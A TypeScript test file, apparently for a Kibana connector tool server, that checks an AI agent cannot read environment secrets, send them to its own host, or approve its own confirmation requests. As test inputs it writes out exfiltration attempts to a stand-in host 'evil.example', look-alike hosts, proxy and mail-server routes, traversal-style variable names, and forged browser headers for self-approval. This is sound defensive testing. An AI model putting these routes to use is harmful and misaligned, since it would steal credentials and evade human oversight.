import { describe, expect, test } from "vitest";
import { env, nothingWritten, webhook } from "../pages/changes.ts";
import { approve } from "../pages/form.ts";
import { accepts, type ProductOptions, product } from "../support/product.ts";

type Args = Record<string, unknown>;

const evil = "https://evil.example/collect";
const routingKey = "R0UTING-canary-5f3c9d";
const others = { KIBANA_API_KEY: "canary-of-the-server", AWS_SECRET_ACCESS_KEY: "canary-of-the-cloud", HOME: "/home/canary" };

/** One call by an agent whose client cannot ask; nothing may be sent, and no value shown. */
async function attack(tool: string, args: Args, options: ProductOptions = {}) {
  const made = await product({ env: { ...env, ...others, CONNECTOR_SECRET_PD: routingKey }, ...options });
  const answer = await nothingWritten(made, () => made.call(tool, args));
  expect(answer.text).not.toMatch(/canary/);
  return { ...answer, made };
}

const pagerduty = (routingKey: unknown, config: Args = {}): Args => ({
  name: "On-call",
  type: ".pagerduty",
  config,
  secrets: { routingKey },
});

describe("an agent that tries to read", () => {
  test.each([
    ...Object.keys(others),
    "PATH",
    "CONNECTOR_SECRET",
    "connector_secret_pd",
    " CONNECTOR_SECRET_PD",
    "CONNECTOR_SECRET_PD ",
    "CONNECTOR_SECRET_../KIBANA_API_KEY",
    "CONNECTOR_SECRET_$KIBANA_API_KEY",
    "CONNECTOR_SECRET_",
    "__proto__",
    "constructor",
    "toString",
    "",
  ])("the variable %j is refused", async ($env) => {
    for (const settings of [{ targetHosts: ["*"] }, { targetHosts: ["*"], literalSecrets: "warn" as const }])
      expect((await attack("create_connector", pagerduty({ $env }), { settings })).body).toMatchObject({ code: "secret_refused" });
  });

  test.each<[string, Args]>([
    ["in the config", { name: "Hook", type: ".webhook", config: { url: { $env: "KIBANA_API_KEY" }, hasAuth: false } }],
    [
      "in a header",
      { name: "Hook", type: ".webhook", config: { url: evil, hasAuth: false, headers: { X: { $env: "CONNECTOR_SECRET_PD" } } } },
    ],
    ["in the name", { name: { $env: "CONNECTOR_SECRET_PD" }, type: ".server-log" }],
    ["as the type", { name: "x", type: { $env: "CONNECTOR_SECRET_PD" } }],
  ])("by a reference %s is refused: references work only in secrets", async (_where, args) => {
    expect((await attack("create_connector", args)).body).toMatchObject({
      code: expect.stringMatching(/^(invalid_(config|arguments)|secret_refused)$/),
    });
  });

  test("by a reference as text in a URL gets that text, not a value", async () => {
    const made = await product({ env: { CONNECTOR_SECRET_PD: routingKey } });
    const url = "https://intake.example.net/{CONNECTOR_SECRET_PD}/$CONNECTOR_SECRET_PD/$env:CONNECTOR_SECRET_PD";
    const { body } = await made.call("create_connector", { name: "Hook", type: ".webhook", config: { url, hasAuth: false } });
    expect(body).toMatchObject({ status: "done" });
    expect(await made.bare("GET", "/sandbox/state")).not.toContain(routingKey);
  });
});

describe("an agent that tries to send a secret to a host of its own", () => {
  const byName = { $env: "CONNECTOR_SECRET_PD" };

  test.each<[string, Args, string[]]>([
    ["directly", pagerduty(byName, { apiUrl: evil }), ["evil.example"]],
    [
      "without encryption to the right host",
      pagerduty(byName, { apiUrl: "http://events.pagerduty.com/" }),
      ["http://events.pagerduty.com"],
    ],
    ["with a name in front of the host", pagerduty(byName, { apiUrl: "https://events.pagerduty.com@evil.example/" }), ["evil.example"]],
    ["with a port of its own", pagerduty(byName, { apiUrl: "https://events.pagerduty.com:8443/" }), ["events.pagerduty.com:8443"]],
    [
      "with a host that only looks right",
      pagerduty(byName, { apiUrl: "https://events.pagerduty.com.evil.example/" }),
      ["events.pagerduty.com.evil.example"],
    ],
    [
      "by another type",
      { name: "Hook", type: ".webhook", config: { url: evil, hasAuth: false }, secrets: { secretHeaders: { X: byName } } },
      ["evil.example"],
    ],
    [
      "by a second address of the type",
      {
        name: "Hook",
        type: ".webhook",
        config: {
          url: "https://intake.example.net/",
          hasAuth: true,
          authType: "webhook-oauth2-client-credentials",
          accessTokenUrl: evil,
          clientId: "x",
        },
        secrets: { clientSecret: byName },
      },
      ["evil.example", "intake.example.net"],
    ],
    [
      "by a proxy",
      {
        name: "Out",
        type: ".http",
        config: { url: "https://api.example.com", hasAuth: false, proxyUrl: evil, hasProxyAuth: true },
        secrets: { proxyUsername: byName, proxyPassword: byName },
      },
      ["api.example.com", "evil.example"],
    ],
    [
      "by a mail server",
      {
        name: "Mail",
        type: ".email",
        config: { service: "other", host: "evil.example", port: 25, from: "a@b.example", hasAuth: true },
        secrets: { user: byName, password: byName },
      },
      ["smtp://evil.example"],
    ],
    [
      "as the host of a URL that is a secret",
      { name: "Chat", type: ".slack", secrets: { webhookUrl: { $env: "CONNECTOR_SECRET_URL" } } },
      ["evil.example"],
    ],
  ])("%s has to wait for a person, who sees secret and host side by side", async (_way, args, shown) => {
    const { body, made } = await attack("create_connector", args, { env: { CONNECTOR_SECRET_PD: routingKey, CONNECTOR_SECRET_URL: evil } });
    expect(body).toMatchObject({ status: "confirmation_needed" });
    const html = await (await fetch(body.confirm.url)).text();
    const [, hosts] = /<code>CONNECTOR_SECRET_\w+<\/code> → <strong>([^<]*)/.exec(html) ?? [];
    expect(hosts?.split(", ")).toEqual(shown);
    expect(html).not.toContain(routingKey);
    expect(made.writes()).toEqual([]);
  });

  // A connector that can be created freely must not make its host known.
  test.each<[string, Args]>([
    ["without authentication", { type: ".webhook", config: { url: evil, hasAuth: false } }],
    [
      "with empty parameters for its secrets",
      {
        type: ".http",
        config: { url: evil, hasAuth: true, authType: "http-authentication-query-param" },
        secrets: { secretQueryParams: {} },
      },
    ],
    ["with empty headers for its secrets", { type: ".webhook", config: { url: evil, hasAuth: false }, secrets: { secretHeaders: {} } }],
    ["of a type that takes any secrets", { type: ".mcp", config: { serverUrl: evil, hasAuth: false } }],
    ["of a type that takes none of them", { type: ".mcp", config: { serverUrl: evil, hasAuth: true, authType: "none" }, secrets: {} }],
    ["with secrets that are null", { type: ".webhook", config: { url: evil, hasAuth: true }, secrets: { user: null, password: null } }],
    [
      "with an empty list of the provider's secrets",
      {
        type: ".inference",
        config: { provider: "openai", taskType: "completion", inferenceId: "i", providerConfig: { url: evil } },
        secrets: { providerSecrets: {} },
      },
    ],
  ])("by making it known first, with a connector %s, still has to wait for a person", async (_how, first) => {
    const made = await product({ env: { CONNECTOR_SECRET_PD: routingKey } });
    await made.call("create_connector", { name: "Stepping stone", ...first });
    const second = await nothingWritten(made, () => made.call("create_connector", pagerduty(byName, { apiUrl: evil })));
    expect(second.body).toMatchObject({ status: "confirmation_needed" });
  });
});

describe("a secret that Kibana has stored", () => {
  /** A webhook with a secret, made in the regular way. */
  async function withStored(options: ProductOptions = {}) {
    const made = await product({ env, ...options });
    const first = await made.call("create_connector", { ...webhook, id: "incident-intake" });
    await approve(first.body.confirm.url);
    expect((await made.call("create_connector", { ...webhook, id: "incident-intake", confirm: first.body.confirm.id })).body.status).toBe(
      "done",
    );
    return made;
  }

  test.each<[string, string, Args]>([
    ["changing the URL", "update_connector", { id: "incident-intake", config: { url: evil } }],
    [
      "changing the URL and saying that nothing is stored",
      "update_connector",
      { id: "incident-intake", config: { url: evil }, assert_no_other_secrets: true },
    ],
    [
      "changing the URL and the way to authenticate",
      "update_connector",
      { id: "incident-intake", config: { url: evil, hasAuth: false, authType: null } },
    ],
    [
      "changing the URL with the secrets by their names",
      "update_connector",
      { id: "incident-intake", config: { url: evil }, secrets: webhook.secrets },
    ],
    ["copying it to another URL", "create_connector", { name: "Copy", from: { id: "incident-intake" }, config: { url: evil } }],
    [
      "copying it to another URL with the secrets by their names",
      "create_connector",
      { name: "Copy", from: { id: "incident-intake" }, config: { url: evil }, secrets: webhook.secrets },
    ],
    ["a loud test", "test_connector", { id: "incident-intake", mode: "loud" }],
    ["a run", "execute_connector", { id: "incident-intake", params: { body: "x" } }],
    ["a run with a URL of its own", "execute_connector", { id: "incident-intake", params: { body: "x", url: evil } }],
  ])("goes nowhere by %s without a person", async (_way, tool, args) => {
    const made = await withStored();
    const { body, text } = await nothingWritten(made, () => made.call(tool, args));
    expect(body.status ?? body.code).toMatch(/^(confirmation_needed|secrets_needed|invalid_config|invalid_arguments)$/);
    expect(text).not.toContain("canary");
  });

  test("is not taken along by a copy", async () => {
    const made = await withStored();
    const before = await made.state();
    const { body } = await made.call("create_connector", { name: "Copy", from: { id: "incident-intake" } });
    expect(body).toMatchObject({ code: "secrets_needed", detail: { required: ["user", "password"] } });
    expect(await made.state()).toBe(before);
  });
});

describe("an agent that tries to approve by itself", () => {
  async function page() {
    const made = await product({ env });
    const { body } = await made.call("create_connector", webhook);
    return { made, ...body.confirm, again: () => made.call("create_connector", { ...webhook, confirm: body.confirm.id }) };
  }

  test.each<[string, RequestInit]>([
    ["a form", { body: new URLSearchParams({ answer: "approve" }) }],
    ["JSON", { body: JSON.stringify({ answer: "approve" }), headers: { "content-type": "application/json" } }],
    [
      "a form that says it is a browser's",
      {
        body: new URLSearchParams({ answer: "approve" }),
        headers: {
          "sec-fetch-site": "same-origin",
          "sec-fetch-mode": "navigate",
          "sec-fetch-dest": "document",
          "user-agent": "Mozilla/5.0",
        },
      },
    ],
    [
      "a form with the page's own origin",
      { body: new URLSearchParams({ answer: "approve" }), headers: { "sec-fetch-site": "same-origin" } },
    ],
  ])("by fetch with %s is refused, and the person still decides", async (_what, init) => {
    const { made, url, again } = await page();
    expect((await fetch(url, { method: "POST", ...init })).status).toBe(403);
    expect((await nothingWritten(made, again)).body).toMatchObject({ status: "confirmation_needed" });
    await approve(url);
    expect((await again()).body).toMatchObject({ status: "done" });
  });

  test.each(["GET", "HEAD", "PUT", "DELETE", "OPTIONS"])("by %s with the answer in the address approves nothing", async (method) => {
    const { made, url, again } = await page();
    await fetch(`${url}?answer=approve`, { method });
    await fetch(url, { method });
    expect((await nothingWritten(made, again)).body).toMatchObject({ status: "confirmation_needed" });
  });

  test("with the id alone, with true, or with the page's key gets nowhere", async () => {
    const { made, url } = await page();
    for (const confirm of ["true", "yes", new URL(url).pathname.slice(3), url]) {
      const { body } = await nothingWritten(made, () => made.call("create_connector", { ...webhook, confirm }));
      expect(body).toMatchObject({ code: "confirmation_invalid", detail: { reason: "foreign" } });
    }
  });

  test("cannot answer the question itself: the person's client is asked, not the agent", async () => {
    const made = await product({ env, person: accepts });
    expect((await nothingWritten(made, () => made.call("create_connector", { ...webhook, approved: true }))).body).toMatchObject({
      code: "invalid_arguments",
    });
  });

  test("cannot use the approval of another call: typed secrets go only with that call", async () => {
    const made = await product();
    const chat = { name: "Chat", type: ".slack", secrets: { webhookUrl: { $ask: true } } };
    const { body } = await made.call("create_connector", chat);
    await approve(body.confirm.url, { "secrets.webhookUrl": "https://hooks.slack.com/services/T/B/canary" });
    const stolen = { ...chat, type: ".teams", confirm: body.confirm.id };
    expect((await nothingWritten(made, () => made.call("create_connector", stolen))).body).toMatchObject({
      code: "confirmation_invalid",
      detail: { reason: "other_change" },
    });
  });
});
